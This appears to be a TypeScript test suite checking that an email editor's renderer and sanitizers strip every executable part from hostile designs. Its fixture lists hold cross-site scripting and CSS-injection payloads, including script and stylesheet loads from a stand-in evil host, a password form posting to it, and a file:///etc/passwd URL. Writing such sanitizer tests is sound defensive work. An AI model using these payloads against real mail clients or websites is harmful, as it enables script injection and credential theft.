import { fc, it as property } from '@fast-check/jest';
import type { Block, Design, Values } from '../../../emailEditor.ts';
import { executableParts } from './executable.testing.ts';
import { drawableFragment } from './drawableFragment.ts';
import { EDITABLE_TYPES, renderMail, safeUrl, sanitizeHtmlBlock, sanitizeRichText } from './index.ts';

const TYPES = [
  ...EDITABLE_TYPES,
  'paragraph',
  'video',
  'timer',
  'table',
  'form',
  'custom',
  'nobody-knows-it',
];

const designOf = (contents: readonly Block[], values: Values = {}): Design => ({
  body: { rows: [{ cells: [1], columns: [{ contents, values: {} }], values: {} }], values },
});
const render = (design: Design) => renderMail(design, { subject: 'A & B', language: 'en' });

const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" OnLoad="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css"; * { behavior: url(x.htc) }</style>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background: url(javascript:alert(1))">x</div>',
  '<div style="background-image: \\75rl(javascript:alert(1))">x</div>',
  '<div style="-moz-binding: url(https://evil.example/x.xml#a); behavior: url(x.htc)">x</div>',
  '<div style="position: fixed; inset: 0">x</div>',
  '<div style="width: exp/**/ression(alert(1))">x</div>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<!--[if mso]><!--[if gte mso 9]><script>alert(1)</script><![endif]--><![endif]-->',
  '<![if mso]><script>alert(1)</script><![endif]>',
  '<b title="--><!--[if mso]><script>alert(1)</script><![endif]-->">x</b>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src=x>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '"><script>alert(1)</script>',
  '\'"--><img src=x onerror=alert(1)>',
  '</title></style></td></table><script>alert(1)</script>',
];

const HOSTILE_VALUES = [
  '"><script>alert(1)</script>',
  '1px;}</style><script>alert(1)</script>',
  'red;background:url(javascript:alert(1))',
  'red" onmouseover="alert(1)',
  'red--><script>alert(1)</script><!--[if mso]>',
  'expression(alert(1))',
  'url("javascript:alert(1)")',
  'h1 onclick=alert(1)',
  'h1><script>alert(1)</script><h1',
];

describe('hostile designs', () => {
  it.each(HOSTILE_HTML)('T9 run nothing in any block: %s', (html) => {
    const contents = TYPES.map((type) => ({
      type,
      values: {
        text: html,
        html,
        altText: html,
        separator: html,
        textJson: JSON.stringify({
          root: { type: 'root', children: [{ type: 'text', text: html, style: html }] },
        }),
        menu: { items: [{ text: html, link: { values: { href: html } } }] },
        icons: { icons: [{ name: html, url: html }], iconType: html },
        src: { url: `https://a.example/${html}` },
        video: { url: html, videoId: html, thumbnail: `https://a.example/${html}`, type: 'youtube' },
        action: { url: html, values: { href: html } },
        table: { rows: [{ cells: [{ text: html }] }], headers: [{ cells: [{ text: html }] }] },
        buttonText: html,
      },
    }));
    expect(executableParts(render(designOf(contents, { preheaderText: html })))).toEqual([]);
    for (const sanitized of [sanitizeRichText(html), sanitizeHtmlBlock(html)]) {
      expect(executableParts(sanitized)).toEqual([]);
      expect(sanitized).not.toMatch(/<!--/u);
    }
    expect(
      drawableFragment(html).querySelector('script, iframe, form, [onerror], [href], [style], [id]'),
    ).toBeNull();
  });

  it.each(HOSTILE_VALUES)('T9 leave the attribute and the rule they stand in to nobody: %s', (value) => {
    const values = {
      ...Object.fromEntries(
        [
          'color',
          'fontSize',
          'textAlign',
          'align',
          'lineHeight',
          'padding',
          'containerPadding',
          'width',
          'headingType',
          'anchor',
          'layout',
          'iconSize',
          'letterSpacing',
          'borderRadius',
          'backgroundColor',
        ].map((name) => [name, value]),
      ),
      text: 'x',
      menu: { items: [{ text: 'x', link: {} }] },
      icons: { icons: [{ name: value, url: 'https://a.example' }], iconType: value },
      fontFamily: { value },
      border: { borderTopWidth: value, borderTopColor: value, [value]: value },
      buttonColors: { backgroundColor: value, color: value },
      href: { values: { href: 'https://a.example' }, attrs: { [value]: value, onClick: 'alert(1)' } },
      src: { url: 'https://a.example/x.png', maxWidth: value, width: value, autoWidth: false },
      linkStyle: { inherit: false, linkColor: value },
      _override: { mobile: { fontSize: value, src: { maxWidth: value }, [value]: value } },
      _meta: { htmlID: value, htmlClassNames: value },
    };
    const design = designOf(
      TYPES.map((type) => ({ type, values })),
      {
        ...values,
        textColor: value,
        contentWidth: value,
        backgroundImage: { url: value, repeat: value, position: value },
      },
    );
    const html = render({
      body: {
        ...design.body,
        rows: design.body.rows.map((row) => ({
          ...row,
          values,
          columns: row.columns.map((column) => ({ ...column, values })),
        })),
      },
    });
    expect(executableParts(html)).toEqual([]);
    expect(new DOMParser().parseFromString(html, 'text/html').head.querySelectorAll('style')).toHaveLength(1);
  });

  property.prop([
    fc.array(fc.record({ type: fc.constantFrom(...TYPES), values: fc.jsonValue({ maxDepth: 4 }) }), {
      maxLength: 4,
    }),
    fc.jsonValue(),
    fc.jsonValue(),
  ])(
    'T9 any values are rendered without an error, and nothing in the mail can run',
    (contents, rowValues, bodyValues) => {
      const design = {
        body: {
          rows: [{ cells: [1], columns: [{ contents, values: rowValues }], values: rowValues }],
          values: bodyValues,
        },
      };
      const before = JSON.stringify(design);
      expect(executableParts(render(design as unknown as Design))).toEqual([]);
      expect(JSON.stringify(design)).toBe(before);
    },
  );

  property.prop([fc.jsonValue({ maxDepth: 6 })])(
    'T9 any JSON at all is rendered without an error',
    (design) => {
      expect(executableParts(render(design as unknown as Design))).toEqual([]);
    },
  );

  const known = fc.constantFrom(
    'text',
    'values',
    'href',
    'url',
    'menu',
    'items',
    'icons',
    'src',
    'border',
    'video',
    'table',
    'rows',
    'cells',
    'headers',
    'linkStyle',
    'size',
    'link',
    '_override',
    'mobile',
    'countdown',
    'fontFamily',
    'value',
    'html',
  );
  const tricky = fc.oneof(
    fc.constantFrom(...HOSTILE_HTML, ...HOSTILE_VALUES),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
  );
  const { values: knownValues } = fc.letrec((tie) => ({
    values: fc.dictionary(
      known,
      fc.oneof({ maxDepth: 4 }, tricky, tie('values'), fc.array(tie('values'), { maxLength: 3 })),
      { maxKeys: 8 },
    ),
  }));
  property.prop([
    fc.array(fc.record({ type: fc.constantFrom(...TYPES), values: knownValues }), { maxLength: 3 }),
  ])(
    'T9 hostile values of any shape in the right places are rendered without an error, and nothing can run',
    (contents) => {
      expect(executableParts(render(designOf(contents as Block[])))).toEqual([]);
    },
  );
});

describe('safeUrl', () => {
  it.each([
    'https://a.example/?a=1&b=2',
    'http://a.example',
    'mailto:a@b.example?subject=Hi',
    'tel:+4912345',
    '{{unsubscribe_url}}',
    'https://a.example/?n={{first_name}}',
    '{{ site }}/path',
  ])('takes %s as it is', (url) => {
    expect(safeUrl(url)).toBe(url);
  });

  it.each([
    'javascript:alert(1)',
    ' java\tscript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://a.example/1',
    '/uploads/a.png',
    'www.example.com',
    '{{a}}:alert(1)',
    '#top',
    '',
  ])('refuses %j', (url) => {
    expect(safeUrl(url)).toBe('');
  });

  it('leaves nothing that could end an attribute, a rule or a comment', () => {
    expect(safeUrl(`https://a.example/"'><b>) --> {{first_name}}`)).toBe(
      'https://a.example/%22%27%3E%3Cb%3E%29%20--%3E%20{{first_name}}',
    );
  });
});
